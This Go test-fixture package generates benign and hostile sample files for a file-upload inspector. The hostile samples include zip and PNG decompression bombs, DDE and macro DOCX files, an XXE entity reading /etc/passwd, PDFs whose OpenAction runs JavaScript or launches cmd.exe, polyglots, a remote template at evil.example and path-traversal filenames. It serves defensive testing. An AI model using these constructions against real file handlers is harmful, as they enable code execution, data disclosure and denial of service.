// Package inspecttest makes files for tests: such as people send, and such as would hurt.
package inspecttest

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io"
	"strings"
	"unicode/utf16"
)

// Sample is a file, and what must become of it: refused with Code, or taken with Notes.
type Sample struct {
	Name  string
	Data  []byte
	Code  string
	Notes []string
	Type  string
	As    string // its name once it is taken; "" for the same
}

// Samples are the cases that every door must decide alike.
func Samples() []Sample {
	photo := JPEG(6, true)
	doc := DOCX(nil)
	return []Sample{
		// refused
		{Name: "bom.docx", Data: DOCX(map[string]string{"word/document.xml": "<w:document>" + strings.Repeat(" ", 40<<20) + "</w:document>"}), Code: "file_unpacks"},
		{Name: "sarang.docx", Data: DOCX(map[string]string{"word/embeddings/a.zip": string(Zip(map[string]string{"b.zip": string(Zip(map[string]string{"c.txt": "c"}))}))}), Code: "file_holds_files"},
		{Name: "arsip.zip", Data: Zip(map[string]string{"a.txt": "a"}), Code: "file_type_refused"},
		{Name: "makro.docx", Data: DOCX(map[string]string{"word/vbaProject.bin": "x"}), Code: "file_macro"},
		{Name: "dde.docx", Data: DOCX(map[string]string{"word/document.xml": `<w:document xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\x</w:instrText></w:r></w:document>`}), Code: "file_macro"},
		{Name: "dde16.docx", Data: DOCX(map[string]string{"word/document.xml": string(UTF16(`<?xml version="1.0" encoding="UTF-16"?>` + ddeDocument))}), Code: "file_macro"},
		{Name: "dde-lain.docx", Data: DOCX(map[string]string{
			"[Content_Types].xml": `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/isi.bin" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
			"_rels/.rels":         rels(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="isi.bin"/>`), "isi.bin": "\n" + ddeDocument}), Code: "file_macro"},
		{Name: "entitas.docx", Data: DOCX(map[string]string{"customXml/item1.bin": string(UTF16(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`))}), Code: "file_damaged"},
		{Name: "naskah.pdf", Data: PDF(1, "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), Code: "file_runs"},
		{Name: "samar.pdf", Data: PDF(1, "/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"), Code: "file_runs"},
		{Name: "tersembunyi.pdf", Data: PDFObjects("<< /S /JavaScript /JS (app.alert(1)) >>"), Code: "file_runs"},
		{Name: "luncur.pdf", Data: PDF(1, "/OpenAction << /S /Launch /F (cmd.exe) >>"), Code: "file_runs"},
		{Name: "lampiran.pdf", Data: PDF(1, "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>] >> >>"), Code: "file_holds_files"},
		{Name: "terkunci.pdf", Data: bytes.Replace(PDF(1, ""), []byte("trailer\n<<"), []byte("trailer\n<< /Encrypt << /Filter /Standard /V 1 /R 2 >>"), 1), Code: "file_locked"},
		{Name: "tebal.pdf", Data: PDF(10_000, ""), Code: "file_too_many_pages"},
		{Name: "pohon.pdf", Data: bytes.Replace(PDF(1, ""), []byte("[ 3 0 R ]"), []byte("[3 0 R 3 0 R]"), 1), Code: "file_damaged"},
		{Name: "pdf-zip.pdf", Data: append(PDF(1, ""), Zip(map[string]string{"a.js": "alert(1)"})...), Code: "file_two_in_one"},
		{Name: "awal.pdf", Data: append([]byte("GIF89a/*"), PDF(1, "")...), Code: "file_two_in_one"},
		{Name: "jpeg-zip.jpg", Data: append(JPEG(1, false), Zip(map[string]string{"a.js": "alert(1)"})...), Code: "file_two_in_one"},
		{Name: "png-html.png", Data: append(PNG(10, 10), "<html><script>alert(1)</script>"...), Code: "file_two_in_one"},
		{Name: "gif.js", Data: []byte("GIF89a/*\x01\x00\x01\x00*/=1;alert(1)"), Code: "file_type_refused"},
		{Name: "gambar.svg", Data: []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), Code: "file_type_refused"},
		{Name: "gambar.jpg", Data: []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), Code: "file_type_refused"},
		{Name: "halaman.txt", Data: []byte("<!-- " + strings.Repeat("x", 4000) + " -->\n<html><script>alert(1)</script></html>"), Code: "file_type_refused"},
		{Name: "raksasa.png", Data: hugePNG(), Code: "file_picture_too_large"},
		{Name: "potong.jpg", Data: photo[:len(photo)-200], Code: "file_damaged"},
		{Name: "nul.txt", Data: []byte("halo\x00dunia"), Code: "file_type_refused"},
		{Name: "program.pdf.exe", Data: append([]byte("MZ\x90\x00"), make([]byte, 200)...), Code: "file_type_refused"},
		{Name: "objek.rtf", Data: []byte(`{\rtf1 halo {\object\objemb{\*\objdata 0105}}}`), Code: "file_holds_files"},
		{Name: "surat.eml", Data: Mail("alat.exe", append([]byte("MZ\x90\x00"), make([]byte, 200)...)), Code: "file_holds_files"},
		{Name: "kosong.txt", Data: nil, Code: "file_empty"},
		// taken, and cleaned
		{Name: "foto.jpg", Data: photo, Type: "image/jpeg", Notes: []string{"location", "details"}},
		{Name: "gerak.jpg", Data: append(JPEG(1, false), append([]byte("\x00\x00\x00\x18ftypmp42"), make([]byte, 64)...)...), Type: "image/jpeg", Notes: []string{"trailing"}},
		{Name: "foto.png", Data: withEXIF(PNG(8, 8)), Type: "image/png", Notes: []string{"location", "details"}},
		{Name: "foto.webp", Data: WebP(true), Type: "image/webp", Notes: []string{"location", "details"}},
		{Name: "foto.tif", Data: TIFF(), Type: "image/tiff", Notes: []string{"location", "details"}},
		{Name: "foto.heic", Data: HEIC(), Type: "image/heic", Notes: []string{"location", "details"}},
		{Name: "film.mp4", Data: MP4(), Type: "video/mp4", Notes: []string{"location", "details"}},
		{Name: "templat.docx", Data: DOCX(map[string]string{"word/_rels/settings.xml.rels": rels(`<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`)}), Type: docxType, Notes: []string{"links"}},
		{Name: "pindai.pdf", Data: PDFPhoto(photo), Type: "application/pdf", Notes: []string{"location"}},
		{Name: "foto.docx", Data: DOCX(map[string]string{"word/media/a.jpeg": string(photo)}), Type: docxType, Notes: []string{"location"}},
		{Name: "latin.csv", Data: []byte("nama;suhu\nSiti;21\xb0C\nBudi;22\xb0C\n"), Type: "text/plain", Notes: []string{"encoding"}},
		{Name: "utf16.txt", Data: UTF16("nama\tjumlah\r\nSiti\t5\r\n"), Type: "text/csv", Notes: []string{"encoding"}},
		{Name: `..\..\etc/passwd.txt`, Data: []byte("isi"), Type: "text/plain", Notes: []string{"name"}, As: "passwd.txt"},
		{Name: "gaji\u202efdp.exe", Data: PDF(1, ""), Type: "application/pdf", Notes: []string{"name"}, As: "gajifdp.pdf"},
		{Name: "laporan.pdf.exe", Data: PDF(1, ""), Type: "application/pdf", Notes: []string{"name"}, As: "laporan.pdf"},
		{Name: "CON.txt", Data: []byte("isi"), Type: "text/plain", Notes: []string{"name"}, As: "_CON.txt"},
		// taken as they are
		{Name: "surat.pdf", Data: PDF(3, "/OpenAction [3 0 R /XYZ null null 0] /Names << /EmbeddedFiles << /Names [ ] >> >>"), Type: "application/pdf"},
		{Name: "surat.docx", Data: doc, Type: docxType},
		{Name: "surat16.docx", Data: DOCX(map[string]string{"customXml/item1.xml": string(UTF16(`<?xml version="1.0" encoding="UTF-16"?><a>Halo</a>`))}), Type: docxType},
		{Name: "gambar.png", Data: PNG(20, 10), Type: "image/png"},
		{Name: "gambar.jpg", Data: JPEG(1, false), Type: "image/jpeg"},
		{Name: "catatan.txt", Data: []byte("Yth. Dinas,\nmohon salinan.\n"), Type: "text/plain"},
		{Name: "daftar.csv", Data: []byte("a,b,c\n1,2,3\n4,5,6\n"), Type: "text/csv"},
		{Name: "pesan.eml", Data: Mail("surat.pdf", PDF(1, "")), Type: "message/rfc822"},
	}
}

const ddeDocument = `<w:document xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\x</w:instrText></w:r></w:document>`

const docxType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

// Zip is an archive of files.
func Zip(files map[string]string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, name := range sorted(files) {
		w, err := z.Create(name)
		if err == nil {
			_, err = io.WriteString(w, files[name])
		}
		must(err)
	}
	must(z.Close())
	return b.Bytes()
}

// DOCX is a document, with more parts or other ones.
func DOCX(more map[string]string) []byte {
	parts := map[string]string{
		"[Content_Types].xml":          `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
		"_rels/.rels":                  rels(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>`),
		"word/document.xml":            `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Halo</w:t></w:r></w:p></w:body></w:document>`,
		"word/_rels/document.xml.rels": rels(`<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/" TargetMode="External"/>`),
	}
	for k, v := range more {
		parts[k] = v
	}
	return Zip(parts)
}

func rels(inner string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + inner + `</Relationships>`
}

// PDF is a document of so many empty pages; catalog is put into its root.
func PDF(pages int, catalog string) []byte {
	var b bytes.Buffer
	var at []int
	obj := func(s string) {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", len(at), s)
	}
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	obj("<< /Type /Catalog /Pages 2 0 R " + catalog + " >>")
	var kids strings.Builder
	for i := range pages {
		fmt.Fprintf(&kids, "%d 0 R ", i+3)
	}
	obj(fmt.Sprintf("<< /Type /Pages /Count %d /Kids [ %s] >>", pages, kids.String()))
	for range pages {
		obj("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(at)+1)
	for _, o := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(at)+1, start)
	return b.Bytes()
}

// PDFObjects is a document whose last object stands packed in a stream of objects.
func PDFObjects(hidden string) []byte {
	inner := "9 0 " + hidden
	var packed bytes.Buffer
	z := zlib.NewWriter(&packed)
	_, err := io.WriteString(z, inner)
	must(err)
	must(z.Close())
	stream := fmt.Sprintf("8 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n", packed.Len(), packed.String())
	return bytes.Replace(PDF(1, "/OpenAction 9 0 R"), []byte("xref\n0"), []byte(stream+"xref\n0"), 1)
}

// PDFPhoto is a document with a photograph as the camera made it.
func PDFPhoto(photo []byte) []byte {
	stream := fmt.Sprintf("8 0 obj\n<< /Type /XObject /Subtype /Image /Width 64 /Height 48 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n", len(photo), photo)
	return bytes.Replace(PDF(1, ""), []byte("xref\n0"), []byte(stream+"xref\n0"), 1)
}

// PDFBomb is a small document with so many streams that unpack to 64 MiB each.
func PDFBomb(streams int) []byte {
	var packed bytes.Buffer
	z := zlib.NewWriter(&packed)
	chunk := make([]byte, 1<<20)
	for range 64 {
		_, err := z.Write(chunk)
		must(err)
	}
	must(z.Close())
	var b strings.Builder
	for i := range streams {
		fmt.Fprintf(&b, "%d 0 obj\n<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n", 8+i, packed.Len(), packed.String())
	}
	return bytes.Replace(PDF(1, ""), []byte("xref\n0"), []byte(b.String()+"xref\n0"), 1)
}

// EXIF is a TIFF structure that says which way up, and on demand where in Jakarta.
func EXIF(turn uint16, place bool) []byte {
	b := []byte("MM\x00*\x00\x00\x00\x08")
	n := uint16(2)
	if place {
		n = 3
	}
	b = binary.BigEndian.AppendUint16(b, n)
	entry := func(tag, typ uint16, count, value uint32) {
		b = binary.BigEndian.AppendUint16(b, tag)
		b = binary.BigEndian.AppendUint16(b, typ)
		b = binary.BigEndian.AppendUint32(b, count)
		b = binary.BigEndian.AppendUint32(b, value)
	}
	end := uint32(8 + 2 + 12*int(n) + 4)
	entry(0x0110, 2, 4, 'C'<<24|'A'<<16|'M'<<8)
	entry(0x0112, 3, 1, uint32(turn)<<16)
	if place {
		entry(0x8825, 4, 1, end)
	}
	b = append(b, 0, 0, 0, 0)
	if place {
		b = binary.BigEndian.AppendUint16(b, 1)
		entry(0x0001, 2, 2, 'S'<<24)
		b = append(b, 0, 0, 0, 0)
		b = append(b, "GPSMARK-6.2S"...)
	}
	return b
}

func picture(w, h int) image.Image {
	m := image.NewRGBA(image.Rect(0, 0, w, h))
	for i := range w * h {
		m.Set(i%w, i/w, color.RGBA{uint8(i * 7), uint8(i * 13), uint8(i), 255})
	}
	return m
}

// JPEG is a small photograph; turned, and with a place, as a telephone makes them.
func JPEG(turn uint16, place bool) []byte {
	var b bytes.Buffer
	must(jpeg.Encode(&b, picture(64, 48), nil))
	if turn == 1 && !place {
		return b.Bytes()
	}
	body := append([]byte("Exif\x00\x00"), EXIF(turn, place)...)
	seg := append([]byte{0xff, 0xe1}, binary.BigEndian.AppendUint16(nil, uint16(len(body)+2))...)
	seg = append(seg, body...)
	return append(append([]byte{0xff, 0xd8}, seg...), b.Bytes()[2:]...)
}

// PNG is a small picture.
func PNG(w, h int) []byte {
	var b bytes.Buffer
	must(png.Encode(&b, picture(w, h)))
	return b.Bytes()
}

func chunk(name string, body []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(body)))
	b = append(append(b, name...), body...)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[4:]))
}

func withEXIF(p []byte) []byte {
	out := append([]byte{}, p[:33]...)
	out = append(out, chunk("eXIf", EXIF(6, true))...)
	out = append(out, chunk("tEXt", []byte("Author\x00GPSMARK-Siti"))...)
	return append(out, p[33:]...)
}

// hugePNG says that it is 60,000 dots wide and high: 14 GB once it is drawn.
func hugePNG() []byte {
	var head [13]byte
	binary.BigEndian.PutUint32(head[:], 60_000)
	binary.BigEndian.PutUint32(head[4:], 60_000)
	head[8], head[9] = 8, 6
	out := append([]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", head[:])...)
	out = append(out, chunk("IDAT", []byte{0x78, 0x9c, 3, 0, 0, 0, 0, 1})...)
	return append(out, chunk("IEND", nil)...)
}

// WebP is a picture without loss of one dot.
func WebP(place bool) []byte {
	part := func(name string, body []byte) []byte {
		b := append([]byte(name), binary.LittleEndian.AppendUint32(nil, uint32(len(body)))...)
		b = append(b, body...)
		if len(body)&1 == 1 {
			b = append(b, 0)
		}
		return b
	}
	vp8l := []byte{0x2f, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xfe, 0x07, 0}
	var body []byte
	if place {
		body = append(body, part("VP8X", []byte{0x0c, 0, 0, 0, 0, 0, 0, 0, 0, 0})...)
	}
	body = append(body, part("VP8L", vp8l)...)
	if place {
		body = append(body, part("EXIF", EXIF(3, true))...)
		body = append(body, part("XMP ", []byte("<x:xmpmeta>exif:GPSLatitude GPSMARK</x:xmpmeta>"))...)
	}
	return append(append([]byte("RIFF"), binary.LittleEndian.AppendUint32(nil, uint32(len(body)+4))...), append([]byte("WEBP"), body...)...)
}

// TIFF is a grey picture of 4 by 4 dots, with a place.
func TIFF() []byte {
	le := binary.LittleEndian
	b := []byte("II*\x00\x08\x00\x00\x00")
	const n = 9
	after := uint32(8 + 2 + 12*n + 4)
	b = le.AppendUint16(b, n)
	entry := func(tag, typ uint16, count, value uint32) {
		b = le.AppendUint16(b, tag)
		b = le.AppendUint16(b, typ)
		b = le.AppendUint32(b, count)
		b = le.AppendUint32(b, value)
	}
	entry(0x0100, 3, 1, 4)
	entry(0x0101, 3, 1, 4)
	entry(0x0102, 3, 1, 8)
	entry(0x0103, 3, 1, 1)
	entry(0x0106, 3, 1, 1)
	entry(0x0111, 4, 1, after)
	entry(0x0117, 4, 1, 16)
	entry(0x0131, 2, 12, after+16)
	entry(0x8825, 4, 1, after+28)
	b = append(b, 0, 0, 0, 0)
	b = append(b, "................"...)
	b = append(b, "GPSMARK-cam\x00"...)
	b = le.AppendUint16(b, 1)
	entry(0x0001, 2, 2, 'S')
	return append(b, 0, 0, 0, 0)
}

func box(name string, body ...[]byte) []byte {
	all := bytes.Join(body, nil)
	return append(append(binary.BigEndian.AppendUint32(nil, uint32(len(all)+8)), name...), all...)
}

// HEIC is the frame of a telephone's photograph: its EXIF beside a picture that is not drawn here.
func HEIC() []byte {
	be := binary.BigEndian
	exif := append([]byte{0, 0, 0, 0}, EXIF(6, true)...)
	ftyp := box("ftyp", []byte("heic\x00\x00\x00\x00mif1heic"))
	build := func(at uint32) []byte {
		infe := func(id uint16, kind string) []byte {
			return box("infe", []byte{2, 0, 0, 0}, be.AppendUint16(nil, id), []byte{0, 0}, []byte(kind), []byte{0})
		}
		loc := func(id uint16, off, n uint32) []byte {
			b := be.AppendUint16(nil, id)
			b = append(b, 0, 0, 0, 1)
			return be.AppendUint32(be.AppendUint32(b, off), n)
		}
		return box("meta", []byte{0, 0, 0, 0},
			box("hdlr", []byte{0, 0, 0, 0, 0, 0, 0, 0}, []byte("pict"), make([]byte, 13)),
			box("iinf", []byte{0, 0, 0, 0, 0, 2}, infe(1, "hvc1"), infe(2, "Exif")),
			box("iloc", []byte{0, 0, 0, 0, 0x44, 0x00, 0, 2}, loc(1, at, 16), loc(2, at+16, uint32(len(exif)))),
			box("iprp", box("ipco", box("ispe", []byte{0, 0, 0, 0, 0, 0, 0, 64, 0, 0, 0, 48}))),
		)
	}
	at := uint32(len(ftyp) + len(build(0)) + 8)
	return bytes.Join([][]byte{ftyp, build(at), box("mdat", []byte("................"), exif)}, nil)
}

// MP4 is the frame of a film that says where it was made.
func MP4() []byte {
	return bytes.Join([][]byte{
		box("ftyp", []byte("isom\x00\x00\x02\x00isommp41")),
		box("moov", box("mvhd", make([]byte, 100)), box("udta", box("\xa9xyz", []byte("\x00\x12\x15\xc7-06.2+106.8GPSMARK/")))),
		box("mdat", []byte("................")),
	}, nil)
}

// UTF16 is a text as some office programs write it.
func UTF16(s string) []byte {
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

// Mail is a message with one document.
func Mail(name string, data []byte) []byte {
	var b bytes.Buffer
	b.WriteString("From: siti@contoh.id\r\nTo: ppid@dinas.test\r\nDate: Wed, 7 Jan 2026 10:00:00 +0700\r\nSubject: Salinan\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"xx\"\r\n\r\n" +
		"--xx\r\nContent-Type: text/html\r\n\r\n<html><body>Terlampir</body></html>\r\n--xx\r\nContent-Type: application/octet-stream\r\n" +
		"Content-Disposition: attachment; filename=\"" + name + "\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	line := 0
	for i := 0; i < len(data); i += 3 {
		var v [3]byte
		n := copy(v[:], data[i:])
		q := []byte{letters[v[0]>>2], letters[v[0]&3<<4|v[1]>>4], letters[v[1]&15<<2|v[2]>>6], letters[v[2]&63]}
		for k := n + 1; k < 4; k++ {
			q[k] = '='
		}
		b.Write(q)
		if line++; line%19 == 0 {
			b.WriteString("\r\n")
		}
	}
	b.WriteString("\r\n--xx--\r\n")
	return b.Bytes()
}

// EICAR is the harmless text that every scanner calls a virus. It is put together here, so that
// no scanner finds it in this source.
func EICAR() []byte {
	return []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}` + "$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*")
}

func sorted(m map[string]string) []string {
	var names []string
	for k := range m {
		names = append(names, k)
	}
	// The list of types first, as programs write it.
	for i := range names {
		for j := i + 1; j < len(names); j++ {
			if names[j] < names[i] {
				names[i], names[j] = names[j], names[i]
			}
		}
	}
	return names
}

func must(err error) {
	if err != nil {
		panic(err)
	}
}
